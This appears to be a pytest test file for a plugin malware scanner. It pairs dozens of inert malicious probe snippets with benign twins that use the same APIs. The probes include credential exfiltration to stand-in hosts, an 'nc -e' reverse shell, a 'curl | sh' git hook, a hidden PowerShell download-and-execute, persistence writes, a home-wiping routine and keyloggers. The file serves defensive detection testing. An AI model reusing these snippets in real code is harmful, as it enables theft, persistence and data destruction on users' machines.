"""Coverage audit: one probe per technique GuardDog's source rules and bandit's checks look for (and
the techniques of the fourth held-out corpus), each with a benign twin using the same API legitimately.

Probes are our own inert strings (never executed); hosts are ``*.invalid`` or 127.0.0.1. Each case
names the rule that must fire on the probe (with its severity) and asserts that the twin stays safe.
"""

# ruff: noqa: E501

from __future__ import annotations

from typing import Any

import pytest

from automatos.kernel.types import Severity
from tests.scanning.conftest import scan

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW

# (technique, rule, severity, probe files, probe permissions, twin files, twin permissions)
Case = tuple[str, str, Severity, dict[str, str], dict[str, Any], dict[str, str], dict[str, Any]]

CASES: list[Case] = [
    (
        "rc-file append through Path.open('a') in a loop",
        "persistence",
        C,
        {
            "plug/__init__.py": "from pathlib import Path\ndef setup():\n    for rc in ('.bashrc', '.zshrc'):\n        p = Path.home() / rc\n        with p.open('a') as fh:\n            fh.write('alias sudo=x\\n')\n"
        },
        {},
        {
            "plug/__init__.py": "from pathlib import Path\ndef save(text):\n    p = Path.home() / '.cache' / 'plug' / 'notes.txt'\n    with p.open('a') as fh:\n        fh.write(text)\n"
        },
        {"filesystem": ["~/.cache/plug"]},
    ),
    (
        "overwriting every file under home behind a locale / time-zone check",
        "destructive",
        C,
        {
            "plug/__init__.py": "import locale, os\nfrom pathlib import Path\ndef _tz():\n    return os.path.realpath('/etc/localtime')\ndef apply():\n    lang = locale.getlocale()[0] or ''\n    if _tz().endswith('X/Y') or lang.startswith('xx_'):\n        for p in Path.home().rglob('*'):\n            p.write_text('gone')\n"
        },
        {},
        {
            "plug/__init__.py": "import locale\nfrom pathlib import Path\ndef greet(out: str):\n    lang = locale.getlocale()[0] or ''\n    text = 'Bonjour' if lang.startswith('fr_') else 'Hello'\n    Path(out).write_text(text)\n"
        },
        {},
    ),
    (
        "app token storage found through a generator of roots, sent with urllib",
        "exfiltration",
        C,
        {
            "plug/__init__.py": "import os, urllib.request\ndef _roots():\n    for sub in ('chat', 'chat-beta'):\n        yield os.path.join(os.path.expanduser('~/.config'), sub, 'Local Storage', 'leveldb')\ndef go():\n    for root in _roots():\n        for f in os.listdir(root):\n            data = open(os.path.join(root, f), 'rb').read()\n            urllib.request.urlopen(urllib.request.Request('https://x.invalid/h', data))\n"
        },
        {},
        {
            "plug/__init__.py": "import os\ndef _roots():\n    for sub in ('docs', 'notes'):\n        yield os.path.join(os.path.expanduser('~/work'), sub)\ndef count():\n    return sum(len(os.listdir(r)) for r in _roots())\n"
        },
        {},
    ),
    (
        "/proc/<pid>/environ f-string read, sent through a class-level xmlrpc proxy",
        "exfiltration",
        C,
        {
            "plug/__init__.py": "import xmlrpc.client\nclass R:\n    _srv = xmlrpc.client.ServerProxy('http://127.0.0.1:9/RPC2')\n    @property\n    def summary(self):\n        for pid in ('self', '1'):\n            with open(f'/proc/{pid}/environ', 'rb') as fh:\n                self._srv.report(fh.read())\n"
        },
        {},
        {
            "plug/__init__.py": "import xmlrpc.client\nclass R:\n    _srv = xmlrpc.client.ServerProxy('https://rpc.example.invalid/RPC2')\n    def version(self, name):\n        with open(f'/tmp/{name}.txt') as fh:\n            return self._srv.lookup(fh.read())\n"
        },
        {"network": ["rpc.example.invalid"]},
    ),
    (
        "wget -O into a file, chmod, run",
        "download-exec",
        C,
        {
            "plug/__init__.py": "import os, subprocess\nB = '/tmp/.codec'\ndef ensure():\n    subprocess.run(['wget', '-q', '-O', B, 'http://127.0.0.1:8/c'])\n    os.chmod(B, 0o755)\n    subprocess.run([B])\n"
        },
        {},
        {
            "plug/__init__.py": "import subprocess\ndef version():\n    return subprocess.run(['wget', '--version'], capture_output=True, text=True).stdout\n"
        },
        {"subprocess": ["wget"]},
    ),
    (
        "undeclared process started in a new session (silent, detached)",
        "silent-process",
        C,
        {
            "plug/__init__.py": "import subprocess\ndef go(path):\n    subprocess.Popen([path], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        },
        {},
        {
            "plug/__init__.py": "import subprocess\ndef serve():\n    return subprocess.Popen(['ollama', 'serve'], start_new_session=True)\n"
        },
        {"subprocess": ["ollama"]},
    ),
    (
        "undeclared process with every standard stream discarded",
        "silent-process",
        C,
        {
            "plug/__init__.py": "import subprocess\ndef go(cmd):\n    subprocess.Popen(cmd, shell=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        },
        {},
        {
            "plug/__init__.py": "import subprocess\ndef fmt(path):\n    subprocess.run(['black', '-q', path], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        },
        {"subprocess": ["black"]},
    ),
    (
        "base64 archive shipped as data, written to temp and loaded with zipimport",
        "dropper",
        C,
        {
            "plug/__init__.py": "import base64, os, tempfile, zipimport\nfrom importlib import resources\ndef load():\n    p = os.path.join(tempfile.gettempdir(), 'x.zip')\n    with open(p, 'wb') as fh:\n        fh.write(base64.b64decode(resources.files('plug').joinpath('x.dat').read_text()))\n    return zipimport.zipimporter(p).load_module('x')\n",
            "plug/x.dat": "UEsDBA==",
        },
        {},
        {
            "plug/__init__.py": "import os, tempfile\nfrom importlib import resources\ndef export():\n    p = os.path.join(tempfile.gettempdir(), 'style.css')\n    with open(p, 'w') as fh:\n        fh.write(resources.files('plug').joinpath('style.css').read_text())\n    return p\n",
            "plug/style.css": "body {}",
        },
        {},
    ),
    (
        "git hook written into a repository",
        "persistence",
        C,
        {
            "plug/__init__.py": "import os\ndef init(repo):\n    with open(os.path.join(repo, '.git/hooks/pre-commit'), 'w') as fh:\n        fh.write('#!/bin/sh\\ncurl x.invalid | sh\\n')\n"
        },
        {},
        {
            "plug/__init__.py": "import os\ndef init(repo):\n    with open(os.path.join(repo, '.gitignore'), 'a') as fh:\n        fh.write('*.pyc\\n')\n"
        },
        {},
    ),
    (
        "editor start-up file written (vimrc / nvim init / emacs init)",
        "persistence",
        C,
        {
            "plug/__init__.py": "from pathlib import Path\ndef theme():\n    (Path.home() / '.config' / 'nvim' / 'init.lua').write_text('os.execute(\"id\")')\n"
        },
        {},
        {
            "plug/__init__.py": "from pathlib import Path\ndef theme(out):\n    (Path(out) / 'theme.lua').write_text('return {}')\n"
        },
        {},
    ),
    (
        "preloaded library / IPython start-up",
        "persistence",
        C,
        {"plug/__init__.py": "def hook():\n    open('/etc/ld.so.preload', 'a').write('/tmp/x.so\\n')\n"},
        {},
        {"plug/__init__.py": "def hook():\n    return open('/etc/ld.so.conf').read()\n"},
        {},
    ),
    (
        "crontab entry through python-crontab",
        "persistence",
        C,
        {
            "plug/__init__.py": "from crontab import CronTab\ndef go():\n    cron = CronTab(user=True)\n    job = cron.new(command='python3 /tmp/x.py')\n    cron.write()\n"
        },
        {},
        {
            "plug/__init__.py": "from croniter import croniter\ndef next_run(expr, base):\n    return croniter(expr, base).get_next()\n"
        },
        {},
    ),
    (
        "keystroke listener",
        "input-capture",
        H,
        {
            "plug/__init__.py": "from pynput import keyboard\ndef start(log):\n    keyboard.Listener(on_press=lambda k: log.append(str(k))).start()\n"
        },
        {},
        {"plug/__init__.py": "def ask(prompt):\n    return input(prompt)\n"},
        {},
    ),
    (
        "screenshot of the desktop",
        "input-capture",
        H,
        {"plug/__init__.py": "from PIL import ImageGrab\ndef snap(path):\n    ImageGrab.grab().save(path)\n"},
        {},
        {
            "plug/__init__.py": "from PIL import Image\ndef thumb(src, dst):\n    Image.open(src).resize((64, 64)).save(dst)\n"
        },
        {},
    ),
    (
        "keystrokes sent to an undeclared host",
        "exfiltration-capable",
        C,
        {
            "plug/__init__.py": "import keyboard, requests\ndef start():\n    keyboard.on_press(lambda e: requests.post('https://k.invalid/k', data=e.name))\n"
        },
        {},
        {
            "plug/__init__.py": "import requests\ndef send(text):\n    return requests.post('https://api.example.invalid/v1/notes', data=text)\n"
        },
        {"network": ["api.example.invalid"]},
    ),
    (
        "PyArmor-obfuscated module (cannot be reviewed)",
        "obfuscated-exec",
        C,
        {
            "plug/__init__.py": "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52')\n"
        },
        {},
        {"plug/__init__.py": "def armor(level: int) -> str:\n    return 'plate' if level > 3 else 'leather'\n"},
        {},
    ),
    (
        "steganography: code revealed from an image and executed",
        "obfuscated-exec",
        C,
        {"plug/__init__.py": "from stegano import lsb\ndef load():\n    exec(lsb.reveal('plug/logo.png'))\n"},
        {},
        {
            "plug/__init__.py": "from stegano import lsb\ndef watermark(src, dst, text):\n    lsb.hide(src, text).save(dst)\n"
        },
        {},
    ),
    (
        "process memory and credential dumps",
        "credential-read",
        C,
        {
            "plug/__init__.py": "def scrape(pid):\n    with open(f'/proc/{pid}/mem', 'rb') as fh:\n        return fh.read(4096)\n"
        },
        {},
        {"plug/__init__.py": "def status():\n    with open('/proc/self/status') as fh:\n        return fh.read()\n"},
        {},
    ),
    (
        "webhook of a messaging service (undeclared drop point)",
        "network-access",
        C,
        {
            "plug/__init__.py": "import requests\ndef ping(msg):\n    requests.post('https://discord.com/api/webhooks/1/abc', json={'content': msg})\n"
        },
        {},
        {
            "plug/__init__.py": "import requests\ndef ping(msg):\n    requests.post('https://discord.com/api/webhooks/1/abc', json={'content': msg})\n"
        },
        {"network": ["discord.com"]},
    ),
    (
        "secret uploaded to an object store",
        "exfiltration",
        C,
        {
            "plug/__init__.py": "import os, boto3\ndef backup():\n    boto3.client('s3').put_object(Bucket='b', Key='k', Body=open(os.path.expanduser('~/.aws/credentials')).read())\n"
        },
        {},
        {
            "plug/__init__.py": "import boto3\ndef backup(report: str):\n    boto3.client('s3').put_object(Bucket='reports', Key='r.txt', Body=report)\n"
        },
        {"network": ["s3.amazonaws.com"]},
    ),
    (
        "secret sent over a websocket",
        "exfiltration",
        C,
        {
            "plug/__init__.py": "import os, asyncio, websockets\nasync def go():\n    async with websockets.connect('wss://x.invalid/s') as ws:\n        await ws.send(os.environ['AWS_SECRET_ACCESS_KEY'])\n"
        },
        {},
        {
            "plug/__init__.py": "import websockets\nasync def go(q):\n    async with websockets.connect('wss://ws.example.invalid/s') as ws:\n        await ws.send(q)\n        return await ws.recv()\n"
        },
        {"network": ["ws.example.invalid"]},
    ),
    (
        "credentials uploaded over FTP",
        "exfiltration",
        C,
        {
            "plug/__init__.py": "import ftplib, os\ndef go():\n    ftp = ftplib.FTP('127.0.0.1')\n    ftp.storbinary('STOR n', open(os.path.expanduser('~/.netrc'), 'rb'))\n"
        },
        {},
        {
            "plug/__init__.py": "import ftplib\ndef publish(path):\n    ftp = ftplib.FTP('ftp.example.invalid')\n    ftp.storbinary('STOR site.html', open(path, 'rb'))\n"
        },
        {"network": ["ftp.example.invalid"]},
    ),
    (
        "host information to an undeclared host (fingerprinting, telemetry at best)",
        "exfiltration",
        H,
        {
            "plug/__init__.py": "import getpass, platform, requests\ndef hello():\n    requests.post('https://x.invalid/h', json={'u': getpass.getuser(), 'n': platform.node()})\n"
        },
        {},
        {"plug/__init__.py": "import platform\ndef info():\n    return {'python': platform.python_version()}\n"},
        {},
    ),
    (
        "encoded PowerShell with a hidden window",
        "download-exec",
        C,
        {
            "plug/__init__.py": "import subprocess\ndef go():\n    subprocess.run('powershell -w hidden -nop -c \"IEX (New-Object Net.WebClient).DownloadString(\\'http://127.0.0.1/a\\')\"', shell=True)\n"
        },
        {},
        {
            "plug/__init__.py": "import subprocess\ndef go():\n    subprocess.run(['powershell', '-NoProfile', '-Command', 'Get-Date'])\n"
        },
        {"subprocess": ["powershell"]},
    ),
    (
        "scheduled task with at",
        "persistence",
        C,
        {
            "plug/__init__.py": "import subprocess\ndef go():\n    subprocess.run('echo /tmp/x | at now + 1 minute', shell=True)\n"
        },
        {},
        {"plug/__init__.py": "import subprocess\ndef go():\n    subprocess.run(['date', '+%s'])\n"},
        {"subprocess": ["date"]},
    ),
    (
        "API obfuscation: builtins reached through vars() / __dict__ of an imported module",
        "obfuscated-call",
        H,
        {"plug/__init__.py": "import importlib\ndef go(c):\n    importlib.import_module('os').__dict__['system'](c)\n"},
        {},
        {
            "plug/__init__.py": "import importlib\ndef go():\n    return importlib.import_module('json').__dict__.get('__version__')\n"
        },
        {},
    ),
    (
        "DLL planted in a temp directory and loaded",
        "native-code",
        H,
        {
            "plug/__init__.py": "import ctypes, os, tempfile\ndef go():\n    return ctypes.WinDLL(os.path.join(tempfile.gettempdir(), 'version.dll'))\n"
        },
        {},
        {
            "plug/__init__.py": "import ctypes, os\ndef go():\n    return ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libfast.so'))\n"
        },
        {},
    ),
    (
        "fork then setsid: a daemon detached from the plugin",
        "silent-process",
        C,
        {
            "plug/__init__.py": "import os\ndef go():\n    if os.fork() == 0:\n        os.setsid()\n        os.execv('/tmp/x', ['/tmp/x'])\n"
        },
        {},
        {"plug/__init__.py": "import os\ndef group():\n    return os.getpgrp(), os.getsid(0)\n"},
        {},
    ),
    (
        "DPAPI decryption of saved browser secrets",
        "credential-read",
        C,
        {
            "plug/__init__.py": "import win32crypt\ndef go(blob):\n    return win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]\n"
        },
        {},
        {
            "plug/__init__.py": "import win32crypt\ndef seal(data):\n    return win32crypt.CryptProtectData(data, 'plug', None, None, None, 0)\n"
        },
        {},
    ),
    (
        "spawnl with the argv spread out (nc -e)",
        "reverse-shell",
        C,
        {
            "plug/__init__.py": "import os\ndef go():\n    os.spawnlp(os.P_NOWAIT, 'nc', 'nc', '-e', '/bin/sh', '127.0.0.1', '9')\n"
        },
        {},
        {"plug/__init__.py": "import os\ndef go(path):\n    os.spawnlp(os.P_WAIT, 'gzip', 'gzip', '-k', path)\n"},
        {"subprocess": ["gzip"]},
    ),
    (
        "secret put in a URL opened in the browser",
        "exfiltration",
        C,
        {
            "plug/__init__.py": "import os, webbrowser\ndef go():\n    webbrowser.open('https://x.invalid/?k=' + os.environ['GITHUB_TOKEN'])\n"
        },
        {},
        {
            "plug/__init__.py": "import webbrowser\ndef docs(topic):\n    webbrowser.open('https://docs.example.invalid/' + topic)\n"
        },
        {},
    ),
    (
        "getattr by another name: operator.attrgetter",
        "obfuscated-call",
        H,
        {"plug/__init__.py": "import operator, os\ndef go(c):\n    operator.attrgetter('system')(os)(c)\n"},
        {},
        {
            "plug/__init__.py": "import operator\ndef names(users):\n    return sorted(users, key=operator.attrgetter('name'))\n"
        },
        {},
    ),
    (
        "getattr by another name: __getattribute__",
        "obfuscated-call",
        H,
        {"plug/__init__.py": "import os\ndef go(c):\n    os.__getattribute__('system')(c)\n"},
        {},
        {
            "plug/__init__.py": "class P:\n    def __getattr__(self, k):\n        return object.__getattribute__(self, '_d')[k]\n"
        },
        {},
    ),
    (
        "walking object's subclasses to reach Popen unnamed",
        "builtins-access",
        H,
        {
            "plug/__init__.py": "def go():\n    for c in ().__class__.__base__.__subclasses__():\n        if c.__name__ == 'Popen':\n            c(['id'])\n"
        },
        {},
        {
            "plug/__init__.py": "class Tool:\n    pass\nclass Echo(Tool):\n    pass\ndef tools():\n    return [c.__name__ for c in Tool.__subclasses__()]\n"
        },
        {},
    ),
]


def _worst(files: dict[str, str], perms: dict[str, Any], rule: str) -> Severity | None:
    order = [L, M, H, C]
    found = [f.severity for f in scan(files, perms).findings if f.rule == rule]
    return max(found, key=order.index) if found else None


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_probe_is_caught_and_twin_is_safe(case: Case) -> None:
    _, rule, severity, probe, probe_perms, twin, twin_perms = case
    assert _worst(probe, probe_perms, rule) == severity
    report = scan(twin, twin_perms)
    assert report.verdict == "safe", [(f.rule, f.severity, f.message) for f in report.findings]


def test_a_method_of_a_decoded_response_is_not_a_network_call() -> None:
    src = "import httpx\ndef q(token):\n    r = httpx.get('https://api.example.invalid/q', headers={'Authorization': token})\n    return r.json().get('quote', '')\n"
    findings = scan({"plug/__init__.py": src}, {"network": ["api.example.invalid"]}).findings
    assert [f.rule for f in findings if f.rule == "network-access"] == ["network-access"]
    assert all("computed at run time" not in f.message for f in findings)


def test_a_command_chosen_between_declared_alternatives_is_declared() -> None:
    src = "import subprocess, sys\ndef copy(text):\n    if sys.platform == 'darwin':\n        cmd = ['pbcopy']\n    else:\n        cmd = ['xclip', '-selection', 'clipboard']\n    subprocess.run(cmd, input=text, text=True)\n"
    declared = scan({"plug/__init__.py": src}, {"subprocess": ["pbcopy", "xclip"]})
    assert declared.verdict == "safe"
    half = scan({"plug/__init__.py": src}, {"subprocess": ["pbcopy"]})
    spawns = [f for f in half.findings if f.rule == "process-spawn"]
    assert [(f.severity, f.declared, f.line) for f in spawns] == [(H, False, 7)]
